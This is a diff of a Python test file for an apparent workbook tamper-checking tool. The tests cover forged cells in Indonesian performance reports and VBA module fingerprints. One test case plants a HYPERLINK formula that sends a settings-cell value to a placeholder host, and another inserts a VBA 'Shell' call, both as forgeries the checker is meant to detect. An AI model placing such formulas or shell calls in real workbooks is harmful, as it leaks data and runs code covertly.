@@ -88,6 +88,8 @@ def edit_name_map(wb):
     (formula("indikator", 0, 9, "=80+5"), "Sel '3 Input Data'!J13 (Realisasi TW IV, baris 1 Data Input Kinerja Organisasi) berisi rumus"),
     (formula(N.LOG, 1, 9, '=HYPERLINK("http://x/?"&Pengaturan!B10,"lihat")'), "Sel 'Log'!J3"),
     (extra_name, "Nama 'indikator_asli'"),
+    (formula(N.STATUS, 2, 7, "tepat waktu"), "Tabel status di Beranda baris 3 (langkah 3) tidak sesuai dengan log"),
+    (formula(N.TURN, 0, 0, "Giliran: langkah 4"), "'Giliran saat ini' di Beranda tidak sesuai dengan log"),
     (edit_name_map, "Daftar nama di lembar tersembunyi '_peta'"),
 ])
 def test_forgeries_in_what_a_reader_sees_are_found_and_named(cli, closed, edit, expected):
@@ -143,13 +145,23 @@ def test_the_code_fingerprints_are_sealed_by_step_one(cli, closed):
     from tests.conftest import named_cells
 
     _rewrite_module(closed, "KinerjaSel", lambda src: src + "' lain\r\n")
-    from kinerja_xl.adapters.vba_sources import fingerprint, stored_modules
+    from kinerja_xl.adapters.vba_sources import code, fingerprint, stored_modules
 
     def forge(wb):
         cell = named_cells(wb, N.META_CODE)[0][0]
         manifest = json.loads(cell.value)
-        manifest["vba"]["KinerjaSel"] = fingerprint(stored_modules(closed)["KinerjaSel"])
+        manifest["vba"]["KinerjaSel"] = fingerprint(code(stored_modules(closed)["KinerjaSel"]))
         cell.value = json.dumps(manifest, sort_keys=True, separators=(",", ":"))
     tamper(closed, forge)
     r = cli("check", closed)
     assert r.code == 1 and "Data langkah 1 (1 Disposisi) berubah setelah dikunci" in r.out, r.out
+
+
+def test_a_module_fingerprint_ignores_what_writers_change_and_nothing_else():
+    from kinerja_xl.adapters.vba_sources import code
+
+    ours = 'Attribute VB_Name = "M"\r\nSub Tulis()\r\n    MsgBox "Halo"  \r\nEnd Sub\r\n\r\n'
+    libreoffice = 'Rem Attribute VBA_ModuleType=VBAModule\nOption VBASupport 1\nSub tulis()\n    msgbox "Halo"\nEnd Sub'
+    assert code(ours) == code(libreoffice)
+    assert code(ours) != code(ours.replace('"Halo"', '"halo"'))        # text in strings is what it says
+    assert code(ours) != code(ours.replace("End Sub", "Shell 1\r\nEnd Sub"))
